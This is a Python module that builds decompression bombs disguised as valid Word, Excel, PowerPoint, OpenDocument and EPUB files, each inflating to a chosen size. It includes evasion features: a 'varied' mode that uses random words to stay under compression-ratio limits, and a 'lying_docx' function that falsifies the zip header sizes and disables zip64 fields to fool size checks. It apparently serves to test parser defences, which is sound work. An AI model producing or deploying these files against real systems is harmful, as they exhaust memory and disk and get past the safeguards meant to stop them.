"""Decompression bombs of every zip-based format, generated to a chosen inflated size.

Each is a valid package of its format (a real Word, Excel, PowerPoint, OpenDocument or EPUB
reader opens it) whose one big part inflates to about `inflated` bytes of repetitive XML. The
part is written in chunks, so making a 1 GiB bomb takes a few MB of memory and some seconds.
`lying_docx` declares a small size for its big part in both headers: only inflating it tells.
"""

from __future__ import annotations

import functools
import io
import random
import string
import struct
import zipfile

_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_CHUNK = 1 << 20

FORMATS = ("docx", "xlsx", "pptx", "odt", "epub")


def _types(overrides: dict[str, str]) -> str:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
    return (f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{parts}</Types>')


def _rels(*targets: tuple[str, str, str]) -> str:
    body = "".join(f'<Relationship Id="{i}" Type="{_OFFICE}/{kind}" Target="{target}"/>' for i, kind, target in targets)
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}">{body}</Relationships>'


def _write_big(archive: zipfile.ZipFile, name: str, head: str, unit: str, tail: str, inflated: int,
               words: random.Random | None = None) -> None:
    """`head`, `unit` repeated to about `inflated` bytes, then `tail`: deflated in chunks. With `words`,
    each unit's text is eight words drawn from them (compressed about 3:1, under any ratio limit)."""
    block = unit * max(1, _CHUNK // len(unit))
    with archive.open(_zinfo(name), "w", force_zip64=inflated >= 1 << 31) as part:
        part.write(head.encode())
        written = len(head)
        while written < inflated:
            if words:
                block = "".join(unit.replace(_TEXT, " ".join(words.choices(_VOCABULARY, k=8)))
                                for _ in range(max(1, _CHUNK // len(unit))))
            part.write(block.encode())
            written += len(block)
        part.write(tail.encode())


_TEXT = "All work and no play makes a dull boy."
_VOCABULARY = ["".join(random.Random(n).choices(string.ascii_lowercase, k=3 + n % 7)) for n in range(5000)]



def _zinfo(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def bomb(kind: str, inflated: int, varied: bool = False) -> bytes:
    """A `kind` package ("docx", "xlsx", "pptx", "odt", "epub") whose big part inflates to about `inflated`
    bytes; `varied`: of varied text, so it passes the ratio limit and is inflated and parsed for real."""
    write = functools.partial(_write_big, words=random.Random(1) if varied else None)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        if kind == "docx":
            z.writestr(_zinfo("[Content_Types].xml"), _types({
                "/word/document.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"}))
            z.writestr(_zinfo("_rels/.rels"), _rels(("rId1", "officeDocument", "word/document.xml")))
            write(z, "word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_W}"><w:body>',
                       "<w:p><w:r><w:t>All work and no play makes a dull boy.</w:t></w:r></w:p>",
                       "</w:body></w:document>", inflated)
        elif kind == "xlsx":
            z.writestr(_zinfo("[Content_Types].xml"), _types({
                "/xl/workbook.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"}))
            z.writestr(_zinfo("_rels/.rels"), _rels(("rId1", "officeDocument", "xl/workbook.xml")))
            z.writestr(_zinfo("xl/workbook.xml"), f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_S}" '
                       f'xmlns:r="{_OFFICE}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>')
            z.writestr(_zinfo("xl/_rels/workbook.xml.rels"), _rels(("rId1", "worksheet", "worksheets/sheet1.xml")))
            write(z, "xl/worksheets/sheet1.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_S}"><sheetData>',
                       '<row><c t="inlineStr"><is><t>dull boy</t></is></c><c><v>42</v></c></row>',
                       "</sheetData></worksheet>", inflated)
        elif kind == "pptx":
            z.writestr(_zinfo("[Content_Types].xml"), _types({
                "/ppt/presentation.xml": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                "/ppt/slides/slide1.xml": "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"}))
            z.writestr(_zinfo("_rels/.rels"), _rels(("rId1", "officeDocument", "ppt/presentation.xml")))
            z.writestr(_zinfo("ppt/presentation.xml"), f'<?xml version="1.0" encoding="UTF-8"?><p:presentation '
                       f'xmlns:p="{_P}" xmlns:r="{_OFFICE}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
                       '</p:presentation>')
            z.writestr(_zinfo("ppt/_rels/presentation.xml.rels"), _rels(("rId1", "slide", "slides/slide1.xml")))
            write(z, "ppt/slides/slide1.xml", f'<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:p="{_P}" '
                       f'xmlns:a="{_A}"><p:cSld><p:spTree><p:sp><p:txBody>',
                       "<a:p><a:r><a:t>All work and no play makes a dull boy.</a:t></a:r></a:p>",
                       "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>", inflated)
        elif kind == "odt":
            z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
            z.writestr(_zinfo("META-INF/manifest.xml"), '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                       'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                       'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                       '</manifest:manifest>')
            write(z, "content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
                       'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>',
                       "<text:p>All work and no play makes a dull boy.</text:p>",
                       "</office:text></office:body></office:document-content>", inflated)
        elif kind == "epub":
            z.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip")
            z.writestr(_zinfo("META-INF/container.xml"), '<?xml version="1.0"?><container version="1.0" '
                       'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
                       'full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
            write(z, "chapter1.xhtml", '<?xml version="1.0" encoding="UTF-8"?><html '
                       'xmlns="http://www.w3.org/1999/xhtml"><body>',
                       "<p>All work and no play makes a dull boy.</p>", "</body></html>", inflated)
        else:
            raise ValueError(f"no bomb of kind {kind!r}")
    return out.getvalue()


def lying_docx(inflated: int, declared: int = 1000) -> bytes:
    """A DOCX whose document.xml says (in its local and central headers) it inflates to `declared`
    bytes and to a compression ratio of 1:1, but inflates to about `inflated`."""
    data = bomb("docx", inflated)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo("word/document.xml")
    if info.file_size >= 0xFFFFFFFF or info.compress_size >= 0xFFFFFFFF:
        raise ValueError("keep a lying bomb under 4 GiB: its sizes are rewritten in the 32-bit fields")
    raw = bytearray(data)
    _rewrite_sizes(raw, info, declared)
    return bytes(raw)


def _rewrite_sizes(raw: bytearray, info: zipfile.ZipInfo, declared: int) -> None:
    # Local header: sizes at +18 (compressed) and +22 (uncompressed); zip64 extra after the name.
    offset = info.header_offset
    name_len, extra_len = struct.unpack("<HH", raw[offset + 26:offset + 30])
    compressed = info.compress_size
    struct.pack_into("<II", raw, offset + 18, compressed, declared)
    extra_at = offset + 30 + name_len
    _rewrite_zip64(raw, extra_at, extra_len, compressed, declared)
    # Central directory record of the same member.
    central = raw.find(b"PK\x01\x02", offset + 30 + name_len + extra_len + compressed)
    while central != -1:
        n_len, e_len = struct.unpack("<HH", raw[central + 28:central + 32])
        if bytes(raw[central + 46:central + 46 + n_len]) == info.filename.encode():
            struct.pack_into("<II", raw, central + 20, compressed, declared)
            _rewrite_zip64(raw, central + 46 + n_len, e_len, compressed, declared)
            return
        central = raw.find(b"PK\x01\x02", central + 4)
    raise ValueError("central directory record not found")


def _rewrite_zip64(raw: bytearray, at: int, length: int, compressed: int, declared: int) -> None:
    """Drop a zip64 extra field (make it an unknown, ignored one) so the 32-bit sizes count."""
    end = at + length
    while at + 4 <= end:
        tag, size = struct.unpack("<HH", raw[at:at + 4])
        if tag == 0x0001:
            struct.pack_into("<H", raw, at, 0xCAFE)
        at += 4 + size
